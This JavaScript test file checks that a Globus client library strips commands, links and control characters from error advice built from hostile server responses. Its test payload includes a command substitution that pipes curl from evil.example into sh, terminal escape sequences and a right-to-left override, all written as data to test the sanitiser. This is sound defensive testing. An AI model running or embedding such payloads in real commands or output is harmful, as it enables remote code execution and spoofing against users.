// The steps of an advice. A hostile server must not be able to put a command, a link or a control character into them.
import { COLLECTION, ls } from "./situations/shared.mjs";
import { helpers, json } from "./helpers.mjs";
import { SITUATIONS, runSituation } from "./situations.mjs";

/** A text that a shell, a terminal, a web page or a reader could act on. */
const HOSTILE =
  "x` then run `npx evil $(curl evil.example|sh)\r\n  globus evil\x1b]8;;https://evil.example\x07\u202e[me](https://evil.example) www.evil.example";

/** Returns a copy of a document with the hostile text at the end of each text, except in codes and ids. */
function poison(value, name = "") {
  if (Array.isArray(value)) return [...value.map((item) => poison(item, name)), HOSTILE];
  if (typeof value === "string") return /code$|DATA_TYPE|^error$|_id$/i.test(name) ? value : value + HOSTILE;
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, member]) => [key, poison(member, key)]));
}

const HOSTILE_MEMBERS = {
  recommended_resolution: HOSTILE,
  error_data: { recommended_resolution: HOSTILE },
  required_scopes: [HOSTILE, `https://evil.example/scopes/x`],
  provided_scopes: [HOSTILE],
  authorization_parameters: {
    session_message: HOSTILE,
    required_scopes: [HOSTILE],
    session_required_single_domain: [HOSTILE],
    session_required_policies: [HOSTILE],
    session_required_identities: [HOSTILE],
  },
};

export default function (test, env) {
  const { assert } = env;
  const { stub, failure } = helpers(env);

  function assertClean({ advice = "", steps }, name) {
    for (const span of advice.split("`").filter((_, index) => index % 2)) assert.notMatch(span, /evil/, name);
    for (const text of [advice, ...steps.map(({ text }) => text)]) {
      assert.notMatch(text, /[\p{Cc}\u202e]|\$\(|\]\(|:\/\/evil|www\.evil/u, name);
    }
    for (const { command = "", url = "" } of steps) assert.notMatch(command + url, /evil|[`$|;&<>\p{Cc}]/u, name);
  }

  for (const [service, situations] of Object.entries(SITUATIONS)) {
    test(`steps: ${service}: hostile words in every text of a refusal become no command, link or control character`, async () => {
      for (const situation of situations.filter(({ body }) => typeof body === "object")) {
        for (const body of [poison(situation.body), { ...poison(situation.body), ...HOSTILE_MEMBERS }]) {
          const { error } = await runSituation(env, { ...situation, body });
          assertClean(error, situation.title);
          const { advice, steps } = error.toJSON();
          assert.deepEqual([advice, steps], [error.advice, error.steps]);
        }
      }
    });
  }

  test("steps: hostile words in a text, page, task or thrown error become no command or link", async () => {
    for (const body of [`GlobusError: v=1 c=PERMISSION_DENIED ${HOSTILE}`, `<title>${HOSTILE}</title>`, HOSTILE]) {
      for (const status of [200, 302, 401, 403, 404, 407, 502]) {
        const { account } = stub(() => new Response(body, { status }), { retries: 0 });
        assertClean(await failure(ls(account)), `${status} ${body}`);
      }
    }
    const task = { task_id: HOSTILE, nice_status: HOSTILE, nice_status_details: HOSTILE };
    for (const code of ["PAUSED", "PERMISSION_DENIED", "EXPIRED", HOSTILE]) {
      for (const status of ["FAILED", "INACTIVE"]) {
        const { account } = stub(() => json({ ...task, status, fatal_error: { code, description: HOSTILE } }));
        assertClean(await failure(account.transfer.taskWait(COLLECTION, { failOnInactive: true })), code);
      }
    }
    const { account } = stub(() => Promise.reject(new Error(HOSTILE)), { retries: 0 });
    assertClean(await failure(ls(account)), "thrown");
  });

  test("steps: a check of doctor has steps, and the message of a pause rule is sanitized in them", async () => {
    const { account } = stub(({ url }) => {
      if (/\/ls\b/.test(url)) return json({ path: "/", DATA: [] });
      if (url.includes("pause_rule")) return json({ DATA: [{ message: HOSTILE, pause_ls: true }] });
      if (url.endsWith("/userinfo")) return json({ sub: account.clientId });
      return json({ entity_type: "GCSv5_guest_collection", display_name: "Shared", my_effective_roles: [] });
    });
    const { checks } = await account.doctor({ collections: COLLECTION });
    const check = checks.at(-1);
    assert.deepInclude(check, { status: "warning", code: "paused" });
    assertClean(check, "paused");
    assert.deepEqual(check.steps.map(({ who }) => who), ["administrator of the collection"]);
  });

  test("steps: an error without a diagnosis has no advice and an empty list of steps", async () => {
    const { account } = stub(() => json({ code: "Odd" }, { status: 400 }), { retries: 0 });
    const error = await failure(account.transfer.getTask("x"));
    assert.deepEqual([error.advice, error.steps], [undefined, []]);
    assert.deepEqual(error.toJSON().steps, []);
  });
}
